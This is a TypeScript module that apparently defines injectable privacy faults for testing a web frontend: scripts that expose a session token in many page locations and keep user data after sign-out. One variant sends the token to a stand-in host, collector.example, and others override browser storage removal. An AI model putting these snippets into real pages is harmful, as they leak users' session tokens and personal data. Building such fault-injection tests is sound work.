import { fault, type Fault } from './fault.ts';
import { withScript } from './page-script.ts';

/** Where a page shows its token, as source: from `token`. */
const exposed = {
  console: 'console.log({ session: { token } })',
  address: "history.replaceState(null, '', `${location.pathname}#session=${token}`)",
  history: "history.pushState({ token }, '')",
  attribute: 'document.body.dataset.session = token',
  text: "document.body.append(Object.assign(document.createElement('small'), { hidden: true, textContent: token }))",
  field: "document.body.appendChild(document.createElement('input')).value = btoa(token)",
  title: 'document.title += token',
  cookie: 'document.cookie = `session=${btoa(token)}`',
  'other-host': "void fetch(`https://collector.example/?session=${btoa('v1 ' + token)}`).catch(() => undefined)",
} as const;

/** What a page keeps of a person who has signed out, as source that runs in each document. */
const kept = {
  'local-storage': `
    const remove = Storage.prototype.removeItem;
    Storage.prototype.removeItem = function (key) {
      if (key !== 'refresh_token' && key !== 'user_data') remove.call(this, key);
    };`,
  'session-storage': `
    Storage.prototype.clear = () => undefined;
    whenSignedIn((user) => sessionStorage.setItem('last_user', user));`,
  'indexed-db': `
    whenSignedIn((user) => {
      const opening = indexedDB.open('chat', 1);
      opening.onupgradeneeded = () => opening.result.createObjectStore('people').put(user, 'last');
    });`,
  cookie: 'whenSignedIn((user) => { document.cookie = `last_user=${encodeURIComponent(user)}; path=/`; });',
  cache: "whenSignedIn((user) => caches.open('chat').then((cache) => cache.put('/last-user', new Response(user))));",
} as const;

/** Calls back once, with the value of a key of localStorage, as soon as there is one. */
const whenStored = (key: string) => `(tell) => {
  const timer = setInterval(() => {
    const value = localStorage.getItem('${key}');
    if (value === null || document.body === null) return;
    clearInterval(timer);
    tell(value);
  }, 20);
}`;

/** What a page shows or keeps of a person that it must not. */
export const privacyFaults: readonly Fault[] = [
  fault({
    id: 'token-exposed',
    title: 'The page shows its token where others can read it',
    owner: 'frontend',
    cause: 'F85',
    where: 'wire',
    params: { place: { about: 'where it stands', default: 'console', oneOf: Object.keys(exposed) } },
    effects: ({ place }) => {
      const script = `(${whenStored('jwt_token')})((token) => { ${exposed[place as keyof typeof exposed]}; });`;
      return { edit: (asked, answer) => withScript(asked, answer, script) };
    },
  }),
  fault({
    id: 'left-behind',
    title: 'The page keeps data of the person after sign-out',
    owner: 'frontend',
    cause: 'F86',
    where: 'wire',
    params: { place: { about: 'where it stays', default: 'local-storage', oneOf: Object.keys(kept) } },
    effects: ({ place }) => {
      const script = `{ const whenSignedIn = ${whenStored('user_data')}; ${kept[place as keyof typeof kept]} }`;
      return { edit: (asked, answer) => withScript(asked, answer, script) };
    },
  }),
];
